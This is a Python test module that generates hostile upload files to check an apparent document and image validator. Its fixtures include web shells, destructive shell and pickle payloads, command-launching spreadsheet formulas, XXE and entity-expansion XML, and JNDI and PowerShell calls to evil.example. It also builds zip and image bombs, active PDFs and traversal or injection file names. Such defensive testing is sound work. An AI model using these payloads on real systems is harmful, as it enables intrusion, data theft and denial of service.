"""Hostile files, made here piece by piece: nothing in this folder is one until the test runs."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from PIL import Image, PngImagePlugin

from jobsphere.files.tests.conftest import DOCX, ODT, PDF, XLSX, archive, image

#: Nothing of this may be in a picture that we hand out.
PAYLOAD = b"<script>alert('JOBSPHERE-PAYLOAD')</script>"


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile upload: `reason` is a part of the refusal; without one it is kept, and must be harmless."""

    name: str
    make: Callable[[], bytes]
    reason: str = ""
    filename: str = "photo.png"
    code: str = "file-refused"


NOT_OURS = "This is none of"
DAMAGED = "damaged"


def every_case() -> list[Case]:
    """Return the whole corpus; names are unique."""
    groups = (
        of_other_kinds,
        truncated,
        polyglots,
        image_bombs,
        archive_bombs,
        documents_with_programs,
        active_pdfs,
        named,
    )
    return [case for group in groups for case in group()]


# Kinds that we do not take


def of_other_kinds() -> Iterator[Case]:
    for name, content in _OTHERS.items():
        yield Case(f"other: {name}", partial(bytes, content), NOT_OURS)
    yield Case("other: plain zip", lambda: archive("readme.txt"), NOT_OURS)
    yield Case("other: jar", lambda: archive("META-INF/MANIFEST.MF", "A.class"), NOT_OURS)
    yield Case("other: apk", lambda: archive("AndroidManifest.xml", "classes.dex"), NOT_OURS)
    yield Case("other: epub", lambda: archive("META-INF/container.xml", mimetype=b"application/epub+zip"), NOT_OURS)
    yield Case("other: powerpoint", lambda: archive("[Content_Types].xml", "ppt/presentation.xml"), NOT_OURS)
    yield Case("other: a calendar of Excel's cousin", lambda: archive("x", mimetype=_SHEET), NOT_OURS)
    for form in ("BMP", "TIFF", "ICO", "PPM", "TGA", "PCX", "DDS", "SGI"):
        yield Case(f"other: {form}", partial(image, form), NOT_OURS)
    yield Case("other: random noise", lambda: random.Random(4).randbytes(5000), NOT_OURS)
    yield Case("other: svg in gzip", lambda: gzip.compress(_SVG), NOT_OURS)


_SHEET = b"application/vnd.oasis.opendocument.spreadsheet"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + PAYLOAD + b"</svg>"
_OTHERS: dict[str, bytes] = {
    "html": b"<!doctype html>" + PAYLOAD,
    "html without a head": PAYLOAD,
    "html behind spaces": b" \n\t" * 50 + PAYLOAD,
    "html with a mark of order": b"\xef\xbb\xbf<html>" + PAYLOAD,
    "html in UTF-16": ("<html>" + PAYLOAD.decode()).encode("utf-16"),
    "html in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "svg": _SVG,
    "svg with a head": b"<?xml version='1.0'?>" + _SVG,
    "svg with a foreign body": b"<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
    "svg that reads files": b"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>",
    "xml that grows": b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>",
    "javascript": b"alert(document.cookie)",
    "javascript module": b"export default fetch('/api/auth/me/')",
    "style sheet": b"body{background:url(javascript:alert(1))}",
    "php": b"<?php system($_GET['c']); ?>",
    "jsp": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "asp": b'<%eval request("c")%>',
    "htaccess": b"AddType application/x-httpd-php .png",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "python": b"import os; os.system('id')",
    "pickle": b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "powershell": b"Invoke-WebRequest http://evil.example",
    "batch": b"@echo off\r\ndel *.*\r\n",
    "windows program": b"MZ" + b"\x90\0" * 300,
    "linux program": b"\x7fELF\x02\x01\x01" + b"\0" * 300,
    "mac program": b"\xcf\xfa\xed\xfe" + b"\0" * 300,
    "java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 100,
    "webassembly": b"\0asm\x01\0\0\0" + b"\0" * 100,
    "windows shortcut": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100,
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "rich text": b"{\\rtf1{\\object\\objupdate}}",
    "help file": b"ITSF\x03\0\0\0" + b"\0" * 100,
    "flash": b"CWS\x0a" + b"\0" * 100,
    "flash, plain": b"FWS\x0a" + b"\0" * 100,
    "seven zip": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
    "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
    "gzip": gzip.compress(b"x" * 1000),
    "bzip2": b"BZh91AY&SY" + b"\0" * 50,
    "xz": b"\xfd7zXZ\0" + b"\0" * 50,
    "tar": b"a.txt".ljust(257, b"\0") + b"ustar\x0000" + b"\0" * 248,
    "disk image": b"\0" * 0x8001 + b"CD001" + b"\0" * 100,
    "sqlite": b"SQLite format 3\0" + b"\0" * 100,
    "mp3": b"ID3\x04\0\0\0\0\0\0" + b"\xff\xfb\x90\0" * 20,
    "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 100,
    "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 100,
    "avif": b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 100,
    "jpeg xl": b"\0\0\0\x0cJXL \r\n\x87\n" + b"\0" * 50,
    "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 50,
    "photoshop": b"8BPS\0\x01" + b"\0" * 50,
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n",
    "font": b"\0\x01\0\0\0\x0c\0\x80" + b"\0" * 100,
    "web font": b"wOF2\0\x01\0\0" + b"\0" * 100,
    "mail": b"From: x@y.example\nSubject: hi\n\n" + PAYLOAD,
    "calendar": b"BEGIN:VCALENDAR\nATTACH:javascript:alert(1)\nEND:VCALENDAR",
    "table": b"=cmd|' /C calc'!A0,1,2\n",
    "json": b'{"__proto__": {"admin": true}}',
    "text": b"just words",
    "one byte": b"\x89",
    "zeros": b"\0" * 4096,
    "a picture behind a space": b" " + image("PNG"),
    "a PDF behind a page of HTML": b"<html>" + PAYLOAD + b"\n%PDF-1.7\n%%EOF",
}


# Cut off

_WHOLE: dict[str, Callable[[], bytes]] = {
    "png": lambda: _noise("PNG"),
    "jpg": lambda: _noise("JPEG"),
    "webp": lambda: _noise("WEBP"),
    "gif": lambda: _noise("GIF"),
    "pdf": lambda: PDF.replace(b"trailer", b"%" + b" " * 5000 + b"\ntrailer"),
    "docx": lambda: DOCX,
    "xlsx": lambda: XLSX,
    "odt": lambda: ODT,
}


def truncated() -> Iterator[Case]:
    for kind, whole in _WHOLE.items():
        for part in (0.3, 0.6, 0.9):
            yield Case(f"cut: {kind} at {part:.0%}", partial(_cut, whole, part), DAMAGED)
    for name, head in _HEADS.items():
        yield Case(f"cut: {name}", partial(bytes, head), DAMAGED)


def _cut(whole: Callable[[], bytes], part: float) -> bytes:
    return whole()[: int(len(whole()) * part)]


def _before(form: str, payload: bytes) -> bytes:
    return image(form) + payload


def _noise(form: str, size: tuple[int, int] = (120, 90)) -> bytes:
    out = io.BytesIO()
    pixels = random.Random(7).randbytes(size[0] * size[1] * 3)
    Image.frombytes("RGB", size, pixels).save(out, form)
    return out.getvalue()


_HEADS = {"four bytes of a PNG": b"\x89PNG", "three bytes of a JPEG": b"\xff\xd8\xff", "the name of a GIF": b"GIF89a"}


# Two things at once


def polyglots() -> Iterator[Case]:
    behind = {
        "html": PAYLOAD,
        "a jar": archive("META-INF/MANIFEST.MF") + PAYLOAD,
        "a pdf": PDF + PAYLOAD,
        "php": b"<?php ?>" + PAYLOAD,
    }
    for form in ("PNG", "JPEG", "WEBP", "GIF"):
        for name, payload in behind.items():
            yield Case(f"polyglot: {form} before {name}", partial(_before, form, payload))
    yield Case("polyglot: comment of a JPEG", lambda: image("JPEG", comment=PAYLOAD))
    yield Case("polyglot: EXIF of a JPEG", lambda: image("JPEG", exif=_exif()))
    yield Case("polyglot: EXIF of a WebP", lambda: image("WEBP", exif=_exif()))
    yield Case("polyglot: EXIF of a PNG", lambda: image("PNG", exif=_exif()))
    yield Case("polyglot: profile of a PNG", lambda: image("PNG", icc_profile=PAYLOAD * 3))
    yield Case("polyglot: profile of a JPEG", lambda: image("JPEG", icc_profile=PAYLOAD * 3))
    yield Case("polyglot: comment of a GIF", lambda: image("GIF", comment=PAYLOAD))
    yield Case("polyglot: text of a PNG", lambda: image("PNG", pnginfo=_text(packed=False)))
    yield Case("polyglot: packed text of a PNG", lambda: image("PNG", pnginfo=_text(packed=True)))
    yield Case("polyglot: own chunk of a PNG", lambda: _with_chunk(b"evIl", PAYLOAD))
    yield Case("polyglot: GIF that is JavaScript", lambda: b"GIF89a/*" + b"\0" * 30 + b"*/=1;alert(1);//", DAMAGED)
    yield Case("polyglot: GIF head before HTML", lambda: b"GIF89a" + PAYLOAD, DAMAGED)
    yield Case("polyglot: BMP that is JavaScript", lambda: b"BM/*" + b"\0" * 40 + b"*/=1;alert(1)", NOT_OURS)
    yield Case("polyglot: JPEG head before HTML", lambda: b"\xff\xd8\xff\xe0" + PAYLOAD, DAMAGED)
    yield Case("polyglot: PNG head before HTML", lambda: b"\x89PNG\r\n\x1a\n" + PAYLOAD, DAMAGED)
    yield Case("polyglot: PDF before a zip", lambda: PDF + archive("a.txt") + b"\n%%EOF")
    yield Case("polyglot: PDF before HTML", lambda: PDF + PAYLOAD + b"\n%%EOF")
    yield Case("polyglot: PDF that is JavaScript", lambda: b"%PDF-1.7=1;alert(1)//\n" + PDF)


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = PAYLOAD.decode()
    exif.get_ifd(0x8825)[1] = "N"
    return exif.tobytes()


def _text(*, packed: bool) -> PngImagePlugin.PngInfo:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PAYLOAD.decode(), zip=packed)
    return info


def _with_chunk(kind: bytes, data: bytes, before: bytes = b"IDAT") -> bytes:
    """Return a PNG with one more chunk."""
    whole = image("PNG")
    at = whole.index(before) - 4
    return whole[:at] + _chunk(kind, data) + whole[at:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


# Small files, large pictures


def image_bombs() -> Iterator[Case]:
    too_many = "million pixels"
    for side in (6000, 20_000, 65_000):
        yield Case(f"bomb: PNG of {side}", partial(_png_head, side, side), too_many)
    yield Case("bomb: PNG, one line too long", lambda: _png_head(2_000_000_000, 1), too_many)
    yield Case("bomb: PNG without a side", lambda: _png_head(0, 100), DAMAGED)
    yield Case("bomb: JPEG of 65000", lambda: _jpeg_head(65_000, 65_000), too_many)
    yield Case("bomb: WebP of 16383", lambda: _webp_head(16_383, 16_383), too_many)
    yield Case("bomb: JPEG with 4000 passes", lambda: _jpeg_passes(4000), "passes")
    yield Case("bomb: GIF of 60000", lambda: _gif_head(60_000, 60_000), too_many)
    yield Case("bomb: GIF with a million frames", lambda: _gif(500, 500, 400_000), "animation")
    yield Case("bomb: GIF with 301 frames", lambda: _gif(8, 8, 301), "animation")
    yield Case("bomb: GIF with 250 large frames", lambda: _gif(900, 900, 250), "animation")
    yield Case(
        "bomb: text of a PNG that grows",
        lambda: _with_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"x" * 90_000_000)),
        DAMAGED,
    )
    yield Case(
        "bomb: text of a PNG that grows, international",
        lambda: _with_chunk(b"iTXt", b"a\0\x01\0\0\0" + zlib.compress(b"x" * 90_000_000)),
        DAMAGED,
    )
    yield Case("bomb: many texts of a PNG", _many_texts, DAMAGED)
    yield Case(
        "bomb: profile of a PNG that grows",
        lambda: _with_chunk(b"iCCP", b"a\0\0" + zlib.compress(b"x" * 90_000_000)),
        DAMAGED,
    )
    yield Case(
        "bomb: lines of a PNG that never end", lambda: _png_head(100, 100, zlib.compress(b"\0" * 200_000_000)), ""
    )
    yield Case(
        "bomb: lines of a PNG that are missing", lambda: _png_head(4000, 4000, zlib.compress(b"\0" * 10)), DAMAGED
    )
    yield Case("bomb: PNG with a wrong checksum", lambda: image("PNG")[:-20] + b"\0" * 20, DAMAGED)
    yield Case("bomb: animated WebP", _moving_webp)
    yield Case("bomb: animated PNG", _moving_png)
    yield Case("bomb: profile of a JPEG in 255 parts", lambda: image("JPEG", icc_profile=b"x" * 5_000_000))


def _png_head(width: int, height: int, data: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    lines = data or zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", lines) + _chunk(b"IEND", b"")


def _many_texts() -> bytes:
    packed = b"a\0\0" + zlib.compress(b"x" * 1_000_000)
    whole = image("PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + _chunk(b"zTXt", packed) * 500 + whole[at:]


def _jpeg_head(width: int, height: int) -> bytes:
    whole = bytearray(image("JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def _jpeg_passes(number: int) -> bytes:
    """Return a progressive JPEG whose last pass comes again and again."""
    whole = image("JPEG", progressive=True, size=(640, 480))
    last = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + last * number + b"\xff\xd9"


def _webp_head(width: int, height: int) -> bytes:
    whole = bytearray(image("WEBP"))
    at = whole.index(b"\x9d\x01\x2a") + 3
    whole[at : at + 4] = struct.pack("<HH", width, height)
    return bytes(whole)


def _gif_head(width: int, height: int) -> bytes:
    whole = bytearray(image("GIF"))
    whole[6:10] = struct.pack("<HH", width, height)
    return bytes(whole)


def _gif(width: int, height: int, frames: int) -> bytes:
    """Return a GIF whose frames are one pixel each, on a large canvas."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + frame * frames + b"\x3b"


def _moving_webp() -> bytes:
    return _moving("WEBP")


def _moving_png() -> bytes:
    return _moving("PNG")


def _moving(form: str) -> bytes:
    frames = [Image.new("RGB", (32, 32), (number % 256, 0, 0)) for number in range(400)]
    out = io.BytesIO()
    frames[0].save(out, form, save_all=True, append_images=frames[1:], duration=10)
    return out.getvalue()


# Documents that unpack to more than they should


def archive_bombs() -> Iterator[Case]:
    grows = "unpacks to more"
    for kind, base in _PARTS.items():
        main = {"docx": "word/media/a.xml", "xlsx": "xl/sharedStrings.xml", "odt": "content2.xml"}[kind]
        yield Case(
            f"archive: {kind} with much of nothing",
            partial(_zip, {**base, main: _Zeros(300)}),
            grows,
        )
        small = {f"{main}{number}": _Zeros(4) for number in range(60)}
        yield Case(f"archive: {kind} with 60 parts of four", partial(_zip, {**base, **small}), grows)
    yield Case("archive: a size that is a lie", _lying_size, DAMAGED)
    yield Case("archive: parts that overlap", _overlapping, grows)
    yield Case(
        "archive: a hundred thousand parts",
        lambda: _zip({**_DOCX, **{f"w/{n}": b"" for n in range(60_000)}}),
        "too many parts",
    )
    yield Case("archive: a table of contents that lies", _lying_count, DAMAGED)
    yield Case("archive: the large form of zip", _large_form, "too many parts")
    yield Case("archive: locked", _locked, "password")
    yield Case("archive: an unknown way of packing", _odd_method, DAMAGED)
    yield Case("archive: a wrong checksum", _wrong_checksum, DAMAGED)
    yield Case(
        "archive: nothing but its end", lambda: b"PK\x03\x04" + b"\0" * 30 + b"PK\x05\x06" + b"\0" * 18, NOT_OURS
    )
    for name in ("../../../etc/cron.d/x", "/etc/passwd", "C:/Windows/x.xml", "..\\..\\x.xml", "word/../../x.xml"):
        yield Case(f"archive: a part called {name}", partial(_zip, {**_DOCX, name: b"<x/>"}), "names that no office")


def documents_with_programs() -> Iterator[Case]:
    programs = "macros or programs"
    for name in (
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "word/setup.exe",
        "word/a.js",
        "word/a.vbs",
        "word/a.lnk",
        "word/A.PS1",
    ):
        yield Case(f"program: docx with {name}", partial(_zip, {**_DOCX, name: b"MZ"}), programs)
    yield Case("program: xlsx with macros", lambda: _zip({**_XLSX, "xl/vbaProject.bin": b"MZ"}), programs)
    yield Case("program: odt with Basic", lambda: _zip({**_ODT, "Basic/Standard/a.xml": b"<x/>"}), programs)
    yield Case("program: odt with scripts", lambda: _zip({**_ODT, "Scripts/python/a.py": b"x"}), programs)
    own = "defines its own XML"
    laughs = b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"
    external = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"
    for kind, base in _PARTS.items():
        part = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "odt": "content.xml"}[kind]
        yield Case(f"xml: {kind} that laughs", partial(_zip, {**base, part: laughs}), own)
        yield Case(f"xml: {kind} that reads files", partial(_zip, {**base, part: external}), own)
    wide = laughs.decode().encode("utf-16")
    yield Case("xml: docx that laughs widely", lambda: _zip({**_DOCX, "word/document.xml": wide}), own)
    late = b"<x>" + b" " * 65_530 + b"<!DOCTYPE x>"
    yield Case("xml: docx that laughs late", lambda: _zip({**_DOCX, "word/document.xml": late}), own)
    for target in ("https://evil.example/a.dotm", "\\\\evil.example\\a.dotm", "http://evil.example/a"):
        relation = _relation("attachedTemplate", target)
        yield Case(
            f"template: {target}",
            partial(_zip, {**_DOCX, "word/_rels/settings.xml.rels": relation}),
            "from elsewhere",
        )


def _relation(kind: str, target: str) -> bytes:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Type="{schema}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>".encode()


class _Zeros:
    """So many megabytes of nothing, which pack to a thousandth."""

    def __init__(self, megabytes: int) -> None:
        self.megabytes = megabytes


_DOCX: dict[str, object] = {"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}
_XLSX: dict[str, object] = {"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}
_ODT: dict[str, object] = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
_PARTS = {"docx": _DOCX, "xlsx": _XLSX, "odt": _ODT}


def _zip(parts: dict[str, object]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as made:
        for name, content in parts.items():
            if isinstance(content, _Zeros):
                with made.open(zipfile.ZipInfo(name), "w", force_zip64=False) as part:
                    part._compressor = zlib.compressobj(6, zlib.DEFLATED, -15)  # type: ignore[attr-defined]
                    part._zinfo.compress_type = zipfile.ZIP_DEFLATED  # type: ignore[attr-defined]
                    for _ in range(content.megabytes):
                        part.write(b"\0" * 1_000_000)
            else:
                made.writestr(name, content)  # type: ignore[arg-type]
    return out.getvalue()


def _patched(field: int, value: bytes, flag: bytes = b"PK\x01\x02", whole: bytes = b"") -> bytes:
    """Return a document one field of whose last entry says something else."""
    content = bytearray(whole or _zip({**_DOCX, "word/a.xml": b"<x/>" * 5000}))
    at = content.rindex(flag) + field
    content[at : at + len(value)] = value
    return bytes(content)


def _lying_size() -> bytes:
    return _patched(24, struct.pack("<I", 10))


def _wrong_checksum() -> bytes:
    return _patched(16, b"\1\2\3\4")


def _odd_method() -> bytes:
    return _patched(10, struct.pack("<H", 99))


def _locked() -> bytes:
    return _patched(8, struct.pack("<H", 1))


def _lying_count() -> bytes:
    return _patched(12, struct.pack("<I", 999_999), b"PK\x05\x06")


def _large_form() -> bytes:
    whole = _zip(_DOCX)
    at = whole.rindex(b"PK\x05\x06")
    return whole[:at] + b"PK\x06\x07" + b"\0" * 16 + whole[at:]


def _overlapping() -> bytes:
    """Return a document whose table of contents names one packed part four hundred times."""
    whole = _zip({**_DOCX, "word/a.xml": _Zeros(10)})
    start, end = whole.index(b"PK\x01\x02"), whole.rindex(b"PK\x05\x06")
    entry = whole[whole.rindex(b"PK\x01\x02") : end]
    table = whole[start:end] + entry * 400
    counts = struct.pack("<HHII", 403, 403, len(table), start)
    return whole[:start] + table + b"PK\x05\x06\0\0\0\0" + counts + b"\0\0"


# PDFs that do things: kept as they are (a signature on them stays good), and only ever downloaded


def active_pdfs() -> Iterator[Case]:
    for name, body in {
        "JavaScript": b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
        "a program to start": b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>",
        "a file inside": b"<</Names<</EmbeddedFiles<</Names[(a.exe)1 0 R]>>>>>>",
        "a film": b"<</Subtype/RichMedia>>",
        "a form that sends": b"<</S/SubmitForm/F(http://evil.example)>>",
        "a link to JavaScript": b"<</S/URI/URI(javascript:alert\\(1\\))>>",
        "an XFA form": b"<</AcroForm<</XFA(x)>>>>",
    }.items():
        content = PDF.replace(b"<<>>endobj", body + b"endobj", 1)
        yield Case(f"pdf: {name}", partial(bytes, content), filename="form.pdf")


# Names


def _of_name(name: str) -> tuple[str, str, str]:
    """Return the reason, the name, and the code: a few names are so odd that the form is no form any more."""
    if "\r\n" in name:
        return NOT_OURS, name, "file-refused"
    return ("submitted", name, "invalid-input") if name.startswith("\u200b") else ("", name, "")


def named() -> Iterator[Case]:
    for name in (
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\x.dll",
        "/etc/passwd",
        "C:\\autoexec.bat",
        "file:///etc/passwd",
        "a\0.pdf.exe",
        "a\r\nSet-Cookie: x=1\r\n\r\n<script>.pdf",
        "a\u202efdp.exe",
        "\u200b\u200b\u200b",
        "\ufeff.pdf",
        "a\u2028b\u2029c.pdf",
        "…………",
        "CON",
        "NUL.pdf",
        ".htaccess",
        "desktop.ini",
        "-rf .pdf",
        '";filename="evil.html',
        "<img src=x onerror=alert(1)>.pdf",
        "%2e%2e%2fetc%2fpasswd",
        "${jndi:ldap://evil.example}",
        "{{7*7}}.pdf",
        "'; DROP TABLE files_storedfile; --",
        "💣" * 60,
        "z" * 250,
        "a" + "\u0301" * 200,
        " . . ",
    ):
        # A line's end in a name ends the header, so what follows is no PDF.
        yield Case(f"name: {name[:40]!r}", lambda: PDF, *_of_name(name))
